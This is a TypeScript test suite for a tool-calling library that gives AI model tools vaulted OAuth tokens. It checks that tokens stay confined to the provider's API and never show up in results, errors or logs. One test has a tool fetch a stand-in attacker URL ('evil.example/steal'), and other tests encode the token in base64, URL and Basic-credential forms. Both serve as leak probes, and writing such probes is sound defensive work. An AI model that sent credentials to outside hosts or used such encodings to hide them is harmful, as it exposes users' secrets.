// The call path with a real vault and a real HTTP API: what a tool gets, what stops it, what it may not leak.
import { inspect } from 'node:util'
import { afterEach, beforeEach, describe, expect, expectTypeOf, it, vi } from 'vitest'
import { z } from 'zod'
import {
  ConfigurationError,
  ToolFailedError,
  ToolgrantError,
  ToolInputError,
  ToolUnknownError,
} from '../errors.ts'
import { TokenSet } from '../oauth/index.ts'
import { type Tool, Toolbox, type ToolContext, tool } from './index.ts'
import { House } from './toolbox-fixture.contract.ts'

const input = z.object({})

function plain(
  name: string,
  run: (context: ToolContext) => unknown,
  more: { timeoutMs?: number } = {},
): Tool {
  return tool({ name, description: 'A tool.', input, ...more, run: (_, context) => run(context) })
}

function acting(
  name: string,
  run: (context: ToolContext<'acme'>) => unknown,
  scopes: readonly string[] = ['read'],
): Tool {
  return tool({
    name,
    description: 'A tool.',
    input,
    auth: { provider: 'acme', scopes },
    run: (_, context) => run(context),
  })
}

async function failure(attempt: Promise<unknown>): Promise<ToolgrantError> {
  const error = await attempt.then(
    (value) => expect.fail(inspect(value)),
    (reason: unknown) => reason,
  )
  expect(error).toBeInstanceOf(ToolgrantError)
  return error as ToolgrantError
}

describe('without a vault', () => {
  const hello = plain('hello', () => 'hi')
  const two = plain('two', () => 2)

  it('P69 calls a tool that it is handed, with the types of that tool', async () => {
    const repeat = tool({
      name: 'repeat',
      description: 'Repeat.',
      input: z.object({ text: z.string(), times: z.number().default(2) }),
      run: ({ text, times }) => text.repeat(times),
    })
    const bound = new Toolbox({ tools: [repeat, two] }).for({ user: 'ada' })
    const result = await bound.call(repeat, { text: 'ab' })
    expectTypeOf(result).toEqualTypeOf<string>()
    expect(result).toBe('abab')
    // @ts-expect-error the schema knows no such key
    await expect(bound.call(repeat, { text: 'ab', time: 3 })).rejects.toBeInstanceOf(ToolInputError)
    await expect(bound.call(hello, {})).rejects.toThrow(/not in this toolbox/)
  })

  it('P81 keeps the order, refuses doubled names, and removes', () => {
    const toolbox = new Toolbox({ tools: [two, hello] })
    const names = () => [
      toolbox.openai().map((each) => each.function.name),
      toolbox.anthropic().map(({ name }) => name),
      toolbox.gemini().map(({ name }) => name),
    ]
    expect(names()).toEqual([
      ['two', 'hello'],
      ['two', 'hello'],
      ['two', 'hello'],
    ])
    expect(() => toolbox.add(hello)).toThrow(/Two tools are called "hello"/)
    expect(() => new Toolbox({ tools: [two, two] })).toThrow(TypeError)
    expect([toolbox.removeTool('two'), toolbox.removeTool('two')]).toEqual([true, false])
    const bound = toolbox.for({ user: 'ada' })
    expect(bound.openai()).toHaveLength(1)
    expect(toolbox.add(two).tools.map(({ name }) => name)).toEqual(['hello', 'two'])
    expect(bound.openaiResponses({ strict: true }).map(({ name, strict }) => [name, strict])).toEqual([
      ['hello', true],
      ['two', true],
    ])
    expect(bound.openai()[0]).toBe(hello.openai())
  })

  it('runs tools without auth, and refuses those with', async () => {
    const toolbox = new Toolbox({ tools: [hello] }).for({ user: 'ada' })
    expect(await toolbox.call('hello', {})).toBe('hi')
    expect(await toolbox.tryCall('hello')).toEqual({ ok: true, paused: false, result: 'hi' })
    expect(() => new Toolbox({ tools: [acting('act', () => 0)] })).toThrow(/needs a vault/)
    expect(() => new Toolbox({ tools: [{ name: 'fake' } as unknown as Tool] })).toThrow(/That is no tool/)
    await expect(toolbox.authorize()).rejects.toThrow(/needs a vault/)
  })

  it('P84 an unknown tool is a typed error', async () => {
    const toolbox = new Toolbox({ tools: [hello] }).for({ user: 'ada' })
    await expect(toolbox.call('nope')).rejects.toBeInstanceOf(ToolUnknownError)
    expect(await toolbox.tryCall('__proto__')).toMatchObject({
      ok: false,
      paused: false,
      error: { code: 'tool_unknown' },
    })
  })

  it('P89 the user comes from the code that binds', async () => {
    const toolbox = new Toolbox({
      tools: [plain('who', ({ user, thread, profile }) => [user, thread, profile])],
    })
    for (const user of ['', undefined, 7])
      expect(() => toolbox.for({ user: user as string })).toThrow(/Say for whom/)
    expect(() => toolbox.for({ user: 'ada', thread: '' })).toThrow(/thread/)
    expect(await toolbox.for({ user: 'ada', thread: 't1', profile: 'work' }).call('who')).toEqual([
      'ada',
      't1',
      'work',
    ])
    const error = await failure(
      toolbox
        .for({ user: 'ada' })
        .call('who', { user: 'eve', thread_id: 't2', profile: 'x', subject: 'eve' }),
    )
    expect((error as ToolInputError).issues.map(({ path }) => path)).toEqual([
      ['user'],
      ['thread_id'],
      ['profile'],
      ['subject'],
    ])
  })

  it('P79 a tool that takes too long is stopped, while others go on', async () => {
    let reason: unknown
    const slow = plain(
      'slow',
      ({ signal }) => new Promise(() => signal.addEventListener('abort', () => (reason = signal.reason))),
      { timeoutMs: 30 },
    )
    const toolbox = new Toolbox({
      tools: [slow, plain('other', () => new Promise((done) => setTimeout(() => done('done'), 60)))],
    }).for({ user: 'ada' })
    const [first, second] = await Promise.all([toolbox.tryCall('slow'), toolbox.tryCall('other')])
    expect(first).toMatchObject({ ok: false, error: { code: 'tool_timeout', tool: 'slow' } })
    expect(second).toMatchObject({ ok: true, result: 'done' })
    expect(reason).toBe(first.error)
  })

  it('P79 the default is 180 s; a call may set its own', async () => {
    expect(plain('any', () => 0).timeoutMs).toBe(180_000)
    const never = plain('never', () => new Promise(() => {}), { timeoutMs: Number.POSITIVE_INFINITY })
    const toolbox = new Toolbox({ tools: [never] }).for({ user: 'ada' })
    await expect(toolbox.call('never', {}, { timeoutMs: 10 })).rejects.toMatchObject({ code: 'tool_timeout' })
    await expect(never.call({}, { timeoutMs: 10 })).rejects.toMatchObject({ code: 'tool_timeout' })
  })

  it('a caller who gives up gets the reason back, from call and tryCall', async () => {
    const stop = new AbortController()
    const seen: unknown[] = []
    const never = plain(
      'never',
      ({ signal }) =>
        new Promise((_, reject) => signal.addEventListener('abort', () => reject(new Error('stopped')))),
    )
    const toolbox = new Toolbox({
      tools: [never],
      onEvent: (event) => void seen.push(event.type === 'tool.call' && event.outcome),
    }).for({ user: 'ada' })
    const both = Promise.allSettled([
      toolbox.call('never', {}, { signal: stop.signal }),
      toolbox.tryCall('never', {}, { signal: stop.signal }),
    ])
    const why = new Error('enough')
    stop.abort(why)
    expect((await both).map((each) => each.status === 'rejected' && each.reason)).toEqual([why, why])
    await expect(toolbox.call('never', {}, { signal: stop.signal })).rejects.toBe(why)
    expect(seen).toEqual(['aborted', 'aborted', 'aborted'])
  })

  it('P80 what a tool throws becomes one typed error, with the original as cause', async () => {
    const original = new RangeError('out of\nrange')
    const tools = [
      plain('a', () => Promise.reject(original)),
      plain('b', () => {
        throw 'text'
      }),
      plain('c', () => Promise.reject(undefined)),
    ]
    const toolbox = new Toolbox({ tools }).for({ user: 'ada' })
    const a = await failure(toolbox.call('a'))
    expect(a).toMatchObject({ code: 'tool_failed', tool: 'a', message: '"a" failed: "out of\\nrange"' })
    expect(a.cause).toBe(original)
    expect(await failure(toolbox.call('b'))).toMatchObject({ message: '"b" failed: "text"' })
    expect(await failure(toolbox.call('c'))).toMatchObject({ message: '"c" failed: "no reason given"' })
  })

  it('a schema whose own code throws is the tool’s failure', async () => {
    const broken = z.object({
      a: z.string().transform(() => {
        throw new Error('bug')
      }),
    })
    const toolbox = new Toolbox({
      tools: [tool({ name: 'broken', description: 'Broken.', input: broken, run: () => 1 })],
    }).for({ user: 'ada' })
    expect(await toolbox.tryCall('broken', { a: 'x' })).toMatchObject({
      ok: false,
      error: { code: 'tool_failed', cause: { message: 'bug' } },
    })
  })

  it('P78 steps run in order behind the tool, and one that throws is named', async () => {
    const two = tool({ name: 'two', description: 'Two.', input, run: () => 2 })
    const piped = two.pipe((n) => n * 10).pipe(async (n) => `${n}!`)
    expect(await piped.call({})).toBe('20!')
    expect(await two.call({})).toBe(2)
    const failing = piped.pipe(function shout() {
      throw new Error('hoarse')
    })
    expect(await failure(failing.call({}))).toMatchObject({
      code: 'tool_failed',
      message: '"two" failed at step 3 behind it, shout,: "hoarse"',
    })
    expect(failing.openai()).toBe(two.openai())
    expect(await new Toolbox({ tools: [piped] }).for({ user: 'ada' }).call('two')).toBe('20!')
  })

  it('P77 variables: overrides go before defaults, unknown ones are refused', async () => {
    const made = tool({
      name: 'vars',
      description: 'Vars.',
      input,
      vars: { REGION: 'eu', MODE: 'fast' },
      run: async (_, { vars, env }) => [vars, await env()],
    })
    const both = (vars: Record<string, string>) => [vars, vars]
    expect(await made.call({})).toEqual(both({ REGION: 'eu', MODE: 'fast' }))
    expect(await made.withVars({ REGION: 'us' }).call({})).toEqual(both({ REGION: 'us', MODE: 'fast' }))
    expect(() => made.withVars({ OTHER: 'x' })).toThrow(/no variable "OTHER"; it has REGION, MODE/)
    expect(() => made.withVars({ MODE: 7 as unknown as string })).toThrow(/must be a string/)
  })

  it('a tool without auth gets a plain fetch that stops with the call', async () => {
    const signals: unknown[] = []
    const fetch = async (_: unknown, init?: RequestInit) => {
      signals.push(init?.signal)
      return new Response('ok')
    }
    const made = plain('get', async (context) => [
      await (await context.fetch('https://example.com/')).text(),
      signals[0] === context.signal,
    ])
    expect(
      await new Toolbox({ tools: [made], fetch: fetch as typeof globalThis.fetch })
        .for({ user: 'ada' })
        .call('get'),
    ).toEqual(['ok', true])
  })

  it('P94 a listener that throws is not the tool’s problem', async () => {
    const warning = vi.spyOn(process, 'emitWarning').mockImplementation(() => {})
    const toolbox = new Toolbox({
      tools: [hello],
      onEvent: () => {
        throw new Error('listener')
      },
    }).for({ user: 'ada' })
    expect(await toolbox.call('hello')).toBe('hi')
    expect(warning).toHaveBeenCalledWith(expect.stringContaining('listener'), 'ToolgrantWarning')
    warning.mockRestore()
  })
})

describe('with a vault', () => {
  let house: House
  let token: string

  beforeEach(async () => {
    house = await House.open(
      {
        api: ({ path, headers, user }) => ({
          body: { path, user, sent: headers.authorization, trace: headers['x-trace'] },
        }),
      },
      { slack: {}, 'git.hub': {} },
    )
    token = await house.connect('ada', ['read'])
  })
  afterEach(() => house.close())

  const call = (made: Tool, args: unknown = {}) =>
    house.toolbox([made]).for({ user: 'ada' }).call(made.name, args)

  describe('the fetch', () => {
    it('goes to the provider’s API with the token, and nowhere else', async () => {
      const paths = acting('paths', async ({ fetch }) => {
        const relative = await (await fetch('/a?b=1', { headers: { 'x-trace': 't' } })).json()
        const absolute = await (await fetch(`${house.server.url}/api/c`)).json()
        const away = await fetch('https://evil.example/steal').catch((error: ToolgrantError) => error.code)
        const up = await (
          await fetch('//evil.example/').catch((error: ToolgrantError) => ({ json: () => error.code }))
        ).json()
        return [relative, absolute, away, up]
      })
      expect(await call(paths)).toEqual([
        { path: '/a', user: 'ada', sent: 'Bearer [redacted]', trace: 't' },
        { path: '/c', user: 'ada', sent: 'Bearer [redacted]' },
        'host_not_allowed',
        'insecure_url',
      ])
      expect(house.server.requests('api').map(({ headers }) => headers['authorization'])).toEqual([
        `Bearer ${token}`,
        `Bearer ${token}`,
      ])
    })

    it('needs to know where the token may go', async () => {
      const bare = await House.open({}, { bare: { apiBaseUrl: undefined } as object })
      await bare.connect('ada', [], { provider: 'bare' })
      const run = async (_: object, { fetch }: ToolContext<'bare'>) =>
        (await fetch(`${bare.server.url}/api/x`)).status
      const made = tool({
        name: 'bare',
        description: 'A tool.',
        input,
        auth: { provider: 'bare', scopes: [] },
        run,
      })
      expect(await failure(bare.toolbox([made]).for({ user: 'ada' }).call('bare'))).toMatchObject({
        code: 'tool_failed',
        cause: { code: 'provider_invalid' },
      })
      const fenced = tool({
        name: 'fenced',
        description: 'A tool.',
        input,
        auth: { provider: 'bare', scopes: [], apiBaseUrl: `${bare.server.url}/api` },
        run,
      })
      expect(await bare.toolbox([fenced]).for({ user: 'ada' }).call('fenced')).toBe(200)
      await bare.close()
    })

    it('a base of the tool’s own replaces the provider’s hosts', async () => {
      const run = async (_: object, { fetch }: ToolContext<'acme'>) => {
        await fetch(`${house.server.url}/api/x`)
      }
      const made = tool({
        name: 'own',
        description: 'A tool.',
        input,
        auth: { provider: 'acme', scopes: [], apiBaseUrl: 'https://only.example/v1' },
        run,
      })
      expect(await failure(call(made))).toMatchObject({ cause: { code: 'host_not_allowed' } })
      expect(house.server.requests('api')).toHaveLength(0)
    })

    it('P57 knows the variables of the provider’s URLs, from the token answer too', async () => {
      const tenant = (url: string) => ({
        apiBaseUrl: `${url}/api/{workspace}`,
        urlVariables: [{ name: 'workspace', from: 'token_response' as const }],
      })
      const rented = await House.open({}, { tenant })
      const made = tool({
        name: 'tenant',
        description: 'A tool.',
        input,
        auth: { provider: 'tenant', scopes: [] },
        run: async (_, { fetch }) => (await fetch('/x')).json(),
      })
      await rented.connect('ada', [], { provider: 'tenant', extra: { workspace: 'w1', other: 'no' } })
      await rented.connect('bob', [], { provider: 'tenant', extra: { workspace: '../admin' } })
      const toolbox = rented.toolbox([made])
      expect(await toolbox.for({ user: 'ada' }).call('tenant')).toMatchObject({ path: '/w1/x' })
      expect(await toolbox.for({ user: 'bob' }).tryCall('tenant')).toMatchObject({
        error: { code: 'provider_invalid' },
      })
      await rented.close()
    })

    it('stops with the call', async () => {
      house.server.configure({ latencyMs: { api: 5000 } })
      const slow = tool({
        name: 'slow',
        description: 'A tool.',
        input,
        auth: { provider: 'acme', scopes: [] },
        timeoutMs: 50,
        run: async (_, { fetch }) => (await fetch('/x')).status,
      })
      const begun = Date.now()
      expect(await failure(call(slow))).toMatchObject({ code: 'tool_timeout' })
      expect(Date.now() - begun).toBeLessThan(2000)
    })

    it('P46 renews a token that the API refuses, once', async () => {
      house.server.expireAccessTokens()
      expect(await call(acting('again', async ({ fetch }) => (await fetch('/x')).status))).toBe(200)
      expect(house.server.requests('refresh')).toHaveLength(1)
    })

    it('with several providers must be chosen', async () => {
      await house.connect('ada', [], { provider: 'slack' })
      const auth = [
        { provider: 'acme', scopes: [] },
        { provider: 'slack', scopes: [] },
      ] as const
      const made = tool({
        name: 'several',
        description: 'A tool.',
        input,
        auth,
        run: async (_, { fetch, auth }) => [
          await fetch('/x').catch((error: Error) => error.message),
          (await auth.slack.fetch('/y')).status,
          auth.acme.provider,
        ],
      })
      expect(await call(made)).toEqual([
        expect.stringContaining('context.auth["acme"].fetch or context.auth["slack"].fetch'),
        200,
        'acme',
      ])
    })
  })

  describe('the token', () => {
    it('P74 P76 P77 is there on request, under its names, and no variable replaces it', async () => {
      await house.connect('ada', [], { provider: 'slack' })
      let seen: Record<string, string>[] = []
      const made = tool({
        name: 'env',
        description: 'A tool.',
        input,
        auth: [
          { provider: 'acme', scopes: ['read'] },
          { provider: 'slack', scopes: [] },
        ],
        vars: { REGION: 'eu', ACME_TOKEN: 'mine', SLACK_BOT_TOKEN: 'mine' },
        run: async (_, { env, auth }) => {
          seen = [await env(), await env({ profile: 'work' })]
          return [await auth.acme.token(), await auth.acme.scopes(), await auth.acme.extra()]
        },
      })
      expect(await call(made)).toEqual(['[redacted]', ['read'], {}])
      expect(seen[0]).toEqual({
        REGION: 'eu',
        ACME_TOKEN: token,
        SLACK_BOT_TOKEN: expect.stringContaining('canary'),
      })
      expect(seen[1]).toMatchObject({
        REGION: 'eu',
        WORK_ACME_TOKEN: token,
        WORK_SLACK_BOT_TOKEN: expect.stringContaining('canary'),
      })
    })

    it('P59 comes without the refresh token', async () => {
      const made = acting('members', ({ auth }) => [Object.keys(auth), Object.keys(auth.acme)])
      const members = ['provider', 'fetch', 'token', 'scopes', 'extra']
      expect(await call(made)).toEqual([[...members, 'acme'], members])
    })

    it('P73 is where the only provider’s members are too', async () => {
      const made = acting('only', async ({ auth }) => [
        auth.provider,
        auth.acme.provider,
        (await auth.token()) === token,
      ])
      expect(await call(made)).toEqual(['acme', 'acme', true])
    })

    it.each([
      ['text', (secret: string) => `it is ${secret}, twice ${secret}`],
      ['deep inside', (secret: string) => ({ a: [{ b: new Map([['c', new Set([secret])]]) }], [secret]: 1 })],
      ['percent-encoded', (secret: string) => `https://x.example/?t=${encodeURIComponent(secret)}`],
      [
        'base64',
        (secret: string) => ({
          t: Buffer.from(secret).toString('base64'),
          u: Buffer.from(secret).toString('base64url'),
        }),
      ],
      ['JSON in JSON', (secret: string) => JSON.stringify({ t: JSON.stringify({ secret }) })],
      [
        'an object of a class',
        (secret: string) => ({
          own: Object.assign(new (class Thing {})(), { secret }),
          said: { toJSON: () => ({ secret }) },
        }),
      ],
      [
        'a circle',
        (secret: string) => {
          const a: Record<string, unknown> = { secret }
          a.self = a
          return a
        },
      ],
      [
        'an error',
        (secret: string) =>
          Object.assign(new Error(`no ${secret}`), {
            request: { headers: { authorization: `Bearer ${secret}` } },
          }),
      ],
    ])('P59 never leaves in a result: %s', async (_, leak) => {
      const made = acting('leak', async ({ auth }) => leak(await auth.token()))
      const result = await call(made)
      const output = inspect(result, { depth: 20, showHidden: true })
      expect(output).toContain('[redacted]')
      for (const form of [
        token,
        encodeURIComponent(token),
        Buffer.from(token).toString('base64').replace(/=+$/, ''),
      ])
        expect(output).not.toContain(form)
      const [message] = (
        await house
          .toolbox([made])
          .for({ user: 'ada' })
          .answerOpenAI({ tool_calls: [{ id: '1', function: { name: 'leak', arguments: '' } }] })
      ).messages
      expect(message?.content).not.toContain(token)
    })

    it.each([
      ['Basic credentials', (secret: string) => btoa(`ada:${secret}`)],
      ['Basic credentials of another length', (secret: string) => btoa(`u:${secret}:x`)],
      ['base64url in the middle', (secret: string) => Buffer.from(`ab${secret}c`).toString('base64url')],
      ['a form', (secret: string) => new URLSearchParams({ token: secret }).toString()],
      ['lower-case percent-encoding', (secret: string) => encodeURIComponent(secret).toLowerCase()],
      ['JSON as PHP writes it', (secret: string) => JSON.stringify({ secret }).replaceAll('/', '\\/')],
      [
        'the bottom of a well',
        (secret: string) => Array.from({ length: 1100 }).reduce<unknown>((inner) => ({ inner }), secret),
      ],
    ])('P59 is found in a result inside %s', async (_, leak) => {
      const secret = '1//0g-canary+/~!='.toLowerCase()
      await house.vault.save(
        { user: 'ada', provider: 'acme' },
        new TokenSet({ accessToken: secret, scopes: ['read'] }),
      )
      const shown = leak(secret)
      const result = await call(acting('leak', async ({ auth }) => leak(await auth.token())))
      expect(JSON.stringify(result)).toContain('[redacted]')
      expect(JSON.stringify(result)).not.toContain(JSON.stringify(shown).slice(6, -6))
    })

    it('P59 a URL with the token in it stays the text that it is in JSON', async () => {
      const made = acting('leak', async ({ auth }) => ({
        next: new URL(`https://a.example/?t=${await auth.token()}`),
      }))
      expect(await call(made)).toEqual({ next: 'https://a.example/?t=[redacted]' })
    })

    it('P59 a secret beside the token does not leave either', async () => {
      const other = await House.open({}, { kraken: {} })
      const tokens = new TokenSet({ accessToken: 'canary-key', raw: { api_secret: 'canary-half' } })
      await other.vault.save({ user: 'ada', provider: 'kraken' }, tokens)
      const auth = { provider: 'kraken', scopes: [] } as const
      const made = tool({ name: 'leak', description: 'd', input, auth, run: (_, { env }) => env() })
      expect(await other.toolbox([made]).for({ user: 'ada' }).call('leak')).toEqual({
        KRAKEN_API_KEY: '[redacted]',
        KRAKEN_API_SECRET: '[redacted]',
      })
      await other.close()
    })

    it('P59 never leaves in an error, its cause or its stack', async () => {
      const made = acting('leak', async ({ auth }) => {
        const secret = await auth.token()
        throw new TypeError(`bad ${secret}`, { cause: { headers: [secret] } })
      })
      const error = await failure(call(made))
      expect(error.message).toBe('"leak" failed: "bad [redacted]"')
      expect(error.cause).toBeInstanceOf(TypeError)
      expect(inspect(error, { depth: 20, showHidden: true })).not.toContain(token)
      expect(JSON.stringify(error)).not.toContain(token)
    })

    it('a result without a secret is the very object', async () => {
      const result = { at: new Date(0), bytes: new Uint8Array(3), deep: [{}] }
      expect(await call(acting('same', async ({ fetch }) => fetch('/x').then(() => result)))).toBe(result)
    })
  })

  describe('accounts', () => {
    const who = acting(
      'who',
      async ({ fetch }) => ((await (await fetch('/me')).json()) as { user: string }).user,
      [],
    )

    beforeEach(async () => {
      for (const account of ['work', 'home']) {
        const { accessToken } = house.server.grant({ user: `ada-${account}` })
        const { TokenSet } = await import('../oauth/index.ts')
        await house.vault.save({ user: 'bea', provider: 'acme', account }, new TokenSet({ accessToken }))
      }
    })

    it('P89 are chosen by trusted code', async () => {
      const toolbox = house.toolbox([who])
      expect(await toolbox.for({ user: 'bea', account: 'home' }).call('who')).toBe('ada-home')
      expect(
        await toolbox.for({ user: 'bea', account: 'home', accounts: { acme: 'work' } }).call('who'),
      ).toBe('ada-work')
      expect(await toolbox.for({ user: 'bea', profile: 'work' }).call('who')).toBe('ada-work')
      expect(await toolbox.for({ user: 'bea' }).tryCall('who')).toMatchObject({
        ok: false,
        error: { code: 'account_ambiguous' },
      })
      expect(
        await failure(toolbox.for({ user: 'bea', account: 'home' }).call('who', { account: 'work' })),
      ).toBeInstanceOf(ToolInputError)
      const fixed = tool({
        name: 'fixed',
        description: 'A tool.',
        input,
        auth: { provider: 'acme', scopes: [], account: 'work' },
        run: async (_, { fetch }) => (await (await fetch('/me')).json()) as unknown,
      })
      expect(await house.toolbox([fixed]).for({ user: 'bea', account: 'home' }).call('fixed')).toMatchObject({
        user: 'ada-work',
      })
    })

    it('P89 may be chosen by the model among the same user’s labels, where that is opted in', async () => {
      const toolbox = house.toolbox([who]).for({ user: 'bea', modelAccounts: { acme: ['work', 'home'] } })
      expect(toolbox.openai()[0]?.function.parameters.properties).toEqual({
        account: {
          type: 'string',
          enum: ['work', 'home'],
          description: 'Which acme account to use.',
          default: 'work',
        },
      })
      expect(toolbox.gemini()[0]?.parameters?.properties?.account).toMatchObject({
        format: 'enum',
        enum: ['work', 'home'],
        nullable: true,
      })
      expect(toolbox.anthropic()[0]).toBe(toolbox.anthropic()[0])
      expect(await toolbox.call('who', '{"account":"home"}')).toBe('ada-home')
      expect(await toolbox.call('who')).toBe('ada-work')
      const error = await failure(toolbox.call('who', { account: 'ada' }))
      expect(error).toMatchObject({
        code: 'tool_input_invalid',
        issues: [{ path: ['account'], message: 'must be one of "work", "home"' }],
      })
      expect(house.toolbox([who]).for({ user: 'bea' }).openai()[0]?.function.parameters.properties).toEqual(
        {},
      )
    })

    it('P89 refuse a tool that has such a parameter of its own', () => {
      const own = tool({
        name: 'own',
        description: 'A tool.',
        input: z.object({ account: z.string() }),
        auth: { provider: 'acme', scopes: [] },
        run: () => 0,
      })
      expect(() =>
        house
          .toolbox([own])
          .for({ user: 'bea', modelAccounts: { acme: ['work'] } })
          .openai(),
      ).toThrow(/a parameter "account" of its own/)
    })
  })

  it('P73 a tool may name the flow that its consent takes', async () => {
    const asked: string[] = []
    const flow = {
      start: async () => {
        asked.push('device')
        throw new ConfigurationError('discovery_failed', 'no')
      },
    }
    const made = tool({
      name: 'tv',
      description: 'A tool.',
      input,
      auth: { provider: 'slack', scopes: [], flow: 'device' },
      run: () => 0,
    })
    expect(() => house.toolbox([made])).toThrow(/No flow is called "device"/)
    expect(
      await failure(
        house
          .toolbox([made], { flows: { device: flow } })
          .for({ user: 'ada' })
          .call('tv'),
      ),
    ).toMatchObject({ code: 'discovery_failed' })
    expect(asked).toEqual(['device'])
  })

  it('P94 every call is recorded, without arguments and results', async () => {
    const failing = acting('failing', () => {
      throw new Error('private')
    })
    const echo = tool({
      name: 'echo',
      description: 'A tool.',
      input: z.object({ text: z.string() }),
      run: ({ text }) => text,
    })
    const toolbox = house
      .toolbox([failing, echo, acting('more', () => 0, ['write'])])
      .for({ user: 'ada', thread: 't1' })
    await Promise.all(['failing', 'nope', 'more'].map((name) => toolbox.tryCall(name)))
    await toolbox.tryCall('echo', { text: 'private' })
    await toolbox.tryCall('echo', { private: 1 })
    const calls = house.events.filter((event) => event.type === 'tool.call')
    expect(calls.map(({ tool, outcome, code }) => [tool, outcome, code]).toSorted()).toEqual([
      ['', 'unknown_tool', 'tool_unknown'],
      ['echo', 'invalid_input', 'tool_input_invalid'],
      ['echo', 'ok', undefined],
      ['failing', 'failed', 'tool_failed'],
      ['more', 'paused', 'missing_scope'],
    ])
    expect(calls.find(({ tool }) => tool === 'failing')).toMatchObject({
      user: 'ada',
      thread: 't1',
      providers: [{ provider: 'acme', account: undefined, scopes: ['read'] }],
      at: expect.any(Date),
      durationMs: expect.any(Number),
    })
    expect(JSON.stringify(house.events)).not.toContain('private')
    for (const secret of house.server.issuedSecrets())
      expect(JSON.stringify(house.events)).not.toContain(secret)
  })

  it('P90 two users, many calls at once: never the other’s token', async () => {
    await house.connect('bob', ['read'])
    const tools = Array.from({ length: 5 }, (_, n) =>
      acting(`t${n}`, async ({ fetch, user }) => [
        user,
        ((await (await fetch('/me')).json()) as { user: string }).user,
      ]),
    )
    const toolbox = house.toolbox(tools)
    const results = await Promise.all(
      ['ada', 'bob'].flatMap((user) =>
        tools.flatMap(({ name }) => Array.from({ length: 4 }, () => toolbox.for({ user }).call(name))),
      ),
    )
    expect(results).toHaveLength(40)
    for (const [user, seen] of results as [string, string][]) expect(seen).toBe(user)
  })

  it('errors from below the tools come through as they are', async () => {
    const made = tool({
      name: 'x',
      description: 'A tool.',
      input,
      auth: { provider: 'nowhere', scopes: [] },
      run: () => 0,
    })
    expect(await house.toolbox([made]).for({ user: 'ada' }).tryCall('x')).toMatchObject({
      ok: false,
      paused: false,
      error: { code: 'client_missing' },
    })
  })

  it('a tool’s own ToolFailedError is not wrapped again', async () => {
    const own = new ToolFailedError('tool_failed', 'as I say', 'inner')
    await expect(call(acting('own', () => Promise.reject(own)))).rejects.toBe(own)
  })
})
